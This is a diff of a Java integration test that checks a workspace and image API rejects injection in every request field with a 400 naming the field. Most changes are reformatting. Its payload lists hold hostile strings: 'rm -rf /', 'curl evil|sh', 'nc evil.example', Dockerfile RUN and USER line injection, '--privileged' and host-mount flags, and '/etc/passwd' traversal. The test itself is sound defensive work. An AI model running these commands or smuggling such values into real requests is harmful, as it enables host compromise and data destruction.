@@ -25,17 +25,42 @@ import org.junit.jupiter.api.extension.ExtendWith;
 class InjectionTest {
   private static final ObjectMapper JSON = new ObjectMapper();
 
-  /** Hostile suffixes: shell, Dockerfile line breaks, options, traversal, control and look-alike characters. */
+  /**
+   * Hostile suffixes: shell, Dockerfile line breaks, options, traversal, control and look-alike
+   * characters.
+   */
   static final List<String> PAYLOADS =
       List.of(
-          "; rm -rf /", "$(reboot)", "`id`", "|nc evil.example 1", "&& curl evil|sh", "\nRUN curl evil|sh", "\r\nUSER root",
-          "' --privileged '", "\" -v /:/host \"", "../../../etc/passwd", "x\u0000y", "${IFS}id", " --label io.a4c.user-id=root",
-          "\\", "\u202Egnp.exe", "ｒｍ", "\t");
+          "; rm -rf /",
+          "$(reboot)",
+          "`id`",
+          "|nc evil.example 1",
+          "&& curl evil|sh",
+          "\nRUN curl evil|sh",
+          "\r\nUSER root",
+          "' --privileged '",
+          "\" -v /:/host \"",
+          "../../../etc/passwd",
+          "x\u0000y",
+          "${IFS}id",
+          " --label io.a4c.user-id=root",
+          "\\",
+          "\u202Egnp.exe",
+          "ｒｍ",
+          "\t");
 
   /** Payloads that must be refused even in a setup line (which is a shell command by design). */
-  static final List<String> SETUP_PAYLOADS = List.of("\nRUN curl evil|sh", "\r\nUSER root", "x\u0000y", "ends in \\", "\t", "\u202Egnp");
+  static final List<String> SETUP_PAYLOADS =
+      List.of("\nRUN curl evil|sh", "\r\nUSER root", "x\u0000y", "ends in \\", "\t", "\u202Egnp");
 
-  private record Case(String what, String method, String path, String token, String body, Map<String, String> headers, String field) {}
+  private record Case(
+      String what,
+      String method,
+      String path,
+      String token,
+      String body,
+      Map<String, String> headers,
+      String field) {}
 
   @Test
   void injectionInAnyFieldIsA400NamingItAndWritesNothing(ApiClient api, Fleet fleet) {
@@ -49,7 +74,11 @@ class InjectionTest {
 
     BiFunction<String, String, String> create =
         (field, value) -> {
-          ObjectNode body = JSON.createObjectNode().put("projectName", project).put("parentName", "main").put("arch", "amd64");
+          ObjectNode body =
+              JSON.createObjectNode()
+                  .put("projectName", project)
+                  .put("parentName", "main")
+                  .put("arch", "amd64");
           body.put(field, value);
           return body.toString();
         };
@@ -63,7 +92,8 @@ class InjectionTest {
           body.putArray("setup").add("echo ok");
           switch (field) {
             case "source.url" -> ((ObjectNode) body.get("source")).put("url", value);
-            case "source.depotPath" -> body.putObject("source").put("type", "perforce").put("depotPath", value);
+            case "source.depotPath" ->
+                body.putObject("source").put("type", "perforce").put("depotPath", value);
             case "tools[0]" -> body.putArray("tools").add(value);
             case "parents[0]" -> body.putArray("parents").add(value);
             case "setup[0]" -> body.putArray("setup").add(value);
@@ -74,7 +104,11 @@ class InjectionTest {
     BiFunction<String, String, String> image =
         (field, value) -> {
           ObjectNode body =
-              JSON.createObjectNode().put("parentName", "main").put("arch", "amd64").put("change", "7").put("imageRef", "a4c-base:busybox");
+              JSON.createObjectNode()
+                  .put("parentName", "main")
+                  .put("arch", "amd64")
+                  .put("change", "7")
+                  .put("imageRef", "a4c-base:busybox");
           body.put(field, value);
           return body.toString();
         };
@@ -82,17 +116,33 @@ class InjectionTest {
     String workspaces = "/v1/users/" + user + "/workspaces";
     for (String payload : PAYLOADS) {
       for (String field : List.of("projectName", "parentName", "change", "name", "arch")) {
-        String value = (field.equals("projectName") ? project : field.equals("arch") ? "amd64" : "main") + payload;
-        cases.add(new Case("create " + field, "POST", workspaces, api.tokenOf(user), create.apply(field, value), Map.of(), field));
+        String value =
+            (field.equals("projectName") ? project : field.equals("arch") ? "amd64" : "main")
+                + payload;
+        cases.add(
+            new Case(
+                "create " + field,
+                "POST",
+                workspaces,
+                api.tokenOf(user),
+                create.apply(field, value),
+                Map.of(),
+                field));
       }
       if (!payload.isBlank() && payload.chars().allMatch(c -> c >= 0x20 && c <= 0x7e)) {
         // What an HTTP client can put in a header at all.
         cases.add(
             new Case(
-                "create Idempotency-Key", "POST", workspaces, api.tokenOf(user), create.apply("name", "ok"),
-                Map.of("Idempotency-Key", "key" + payload), "Idempotency-Key"));
+                "create Idempotency-Key",
+                "POST",
+                workspaces,
+                api.tokenOf(user),
+                create.apply("name", "ok"),
+                Map.of("Idempotency-Key", "key" + payload),
+                "Idempotency-Key"));
       }
-      for (String field : List.of("source.url", "source.depotPath", "baseImage", "tools[0]", "parents[0]")) {
+      for (String field :
+          List.of("source.url", "source.depotPath", "baseImage", "tools[0]", "parents[0]")) {
         String base =
             switch (field) {
               case "source.url" -> "https://git.example.com/x.git";
@@ -100,27 +150,80 @@ class InjectionTest {
               case "baseImage" -> "a4c-base:busybox";
               default -> "main";
             };
-        cases.add(new Case("project " + field, "PUT", "/v1/projects/" + evilProject, admin, projectBody.apply(field, base + payload), Map.of(), field));
+        cases.add(
+            new Case(
+                "project " + field,
+                "PUT",
+                "/v1/projects/" + evilProject,
+                admin,
+                projectBody.apply(field, base + payload),
+                Map.of(),
+                field));
       }
       for (String field : List.of("parentName", "change", "imageRef", "arch")) {
-        String base = field.equals("imageRef") ? "a4c-base:busybox" : field.equals("arch") ? "amd64" : "main";
-        cases.add(new Case("image " + field, "POST", "/v1/projects/" + project + "/images", admin, image.apply(field, base + payload), Map.of(), field));
+        String base =
+            field.equals("imageRef") ? "a4c-base:busybox" : field.equals("arch") ? "amd64" : "main";
+        cases.add(
+            new Case(
+                "image " + field,
+                "POST",
+                "/v1/projects/" + project + "/images",
+                admin,
+                image.apply(field, base + payload),
+                Map.of(),
+                field));
       }
-      cases.add(new Case("audit userId", "GET", "/v1/audit?userId=" + java.net.URLEncoder.encode("x" + payload, java.nio.charset.StandardCharsets.UTF_8), admin, null, Map.of(), "userId"));
+      cases.add(
+          new Case(
+              "audit userId",
+              "GET",
+              "/v1/audit?userId="
+                  + java.net.URLEncoder.encode(
+                      "x" + payload, java.nio.charset.StandardCharsets.UTF_8),
+              admin,
+              null,
+              Map.of(),
+              "userId"));
     }
     for (String payload : SETUP_PAYLOADS) {
-      cases.add(new Case("project setup[0]", "PUT", "/v1/projects/" + evilProject, admin, projectBody.apply("setup[0]", "echo ok" + payload), Map.of(), "setup[0]"));
+      cases.add(
+          new Case(
+              "project setup[0]",
+              "PUT",
+              "/v1/projects/" + evilProject,
+              admin,
+              projectBody.apply("setup[0]", "echo ok" + payload),
+              Map.of(),
+              "setup[0]"));
     }
     // An admin creating in the name of a user id that is itself an injection: a 400, not a label.
     cases.add(
         new Case(
-            "create userId", "POST", "/v1/users/" + java.net.URLEncoder.encode("x;id", java.nio.charset.StandardCharsets.UTF_8) + "/workspaces",
-            admin, create.apply("name", "ok"), Map.of(), "userId"));
-    cases.add(new Case("delete force", "DELETE", workspaces + "/ws-0000000000000000000000zzzz?force=yes;id", admin, null, Map.of(), "force"));
+            "create userId",
+            "POST",
+            "/v1/users/"
+                + java.net.URLEncoder.encode("x;id", java.nio.charset.StandardCharsets.UTF_8)
+                + "/workspaces",
+            admin,
+            create.apply("name", "ok"),
+            Map.of(),
+            "userId"));
+    cases.add(
+        new Case(
+            "delete force",
+            "DELETE",
+            workspaces + "/ws-0000000000000000000000zzzz?force=yes;id",
+            admin,
+            null,
+            Map.of(),
+            "force"));
 
     for (Case c : cases) {
-      var reply = api.send(c.method(), c.path(), c.token(), c.body(), "application/json", c.headers());
-      assertThat(reply.status()).as(c.what() + " " + c.body() + " -> " + reply.body()).isEqualTo(400);
+      var reply =
+          api.send(c.method(), c.path(), c.token(), c.body(), "application/json", c.headers());
+      assertThat(reply.status())
+          .as(c.what() + " " + c.body() + " -> " + reply.body())
+          .isEqualTo(400);
       assertThat(reply.at("/field")).as(c.what() + " " + c.body()).isEqualTo(c.field());
       assertThat(reply.contentType()).isEqualTo("application/problem+json");
     }
